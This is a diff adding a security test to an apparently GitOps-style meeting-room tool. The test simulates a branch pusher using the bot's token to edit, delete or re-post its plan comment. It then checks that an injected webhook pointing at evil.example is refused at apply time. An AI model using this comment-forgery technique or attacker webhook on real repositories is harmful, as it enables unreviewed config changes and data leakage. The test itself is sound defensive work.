@@ -14,7 +14,9 @@ import signal
 import socket
 import subprocess
 import time
+import urllib.request
 
+from github import REPOSITORY, WRITE
 from loopback import ACTION, KEY, MEMORY, Failed, check, git, largest
 
 ATTACKS = []
@@ -1527,3 +1529,44 @@ def git_is_killed(s):
     del s.runner.before["Apply"]
     check(s.apply(sha), s.run.log())
     return stopped
+
+
+@attack("3", "somebody who may push branches", "a workflow of their branch, whose token speaks for the bot, and edits its comment")
+def a_comment_that_is_edited(s):
+    rooms = {"rooms/board.yaml": "privacy: public\nrecordRoom: true\nmeetingStartedWebhook: https://evil.example/x\n"}
+    harmless = "<!-- roomctl:plan-for-apply -->\n## Plan for acme\n\n**Nothing to do**\n"
+
+    def edited(comment):
+        bot(s, f"/issues/comments/{comment['id']}", harmless)
+
+    def put_back(comment):
+        before = comment["body"]
+        edited(comment)
+        bot(s, f"/issues/comments/{comment['id']}", before)
+
+    def another(comment):
+        s.hub.comments.remove(comment)
+        bot(s, f"/issues/{comment['issue']}/comments", comment["body"])
+
+    for what in (edited, put_back, s.hub.comments.remove, another):
+        before = s.main()
+        pull = s.pull_request(rooms, who="member")
+        check("evil.example" in reads(s, pull), s.comment_of(pull))
+        what(s.comment_on(pull))
+        check(s.apply(s.merge(pull)) is False and "evil.example" not in s.room("board"), s.runner.log)
+        stopped = refused(s, 4, "was edited after comment.yml wrote it", "no plan was reviewed for", "board: no reviewed plan has it")
+        s.go_on(before)
+    # Planned again, it counts: what is shown then is the truth.
+    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 21\n"}, who="member")
+    edited(s.comment_on(pull))
+    s.plan(pull)
+    check(s.apply(s.merge(pull)) and '"maxParticipants":21' in s.room("quick-2"), s.runner.log)
+    return stopped
+
+
+def bot(s, path, text):
+    """What a workflow of any branch of the repository writes with its own token, which the bot's comments have as well."""
+    method = "PATCH" if "/comments/" in path else "POST"
+    asked = urllib.request.Request(f"{s.hub.url}/repos/{REPOSITORY}{path}", data=json.dumps({"body": text}).encode(), method=method)
+    asked.add_header("Authorization", f"Bearer {WRITE}")
+    urllib.request.urlopen(asked, timeout=10).close()
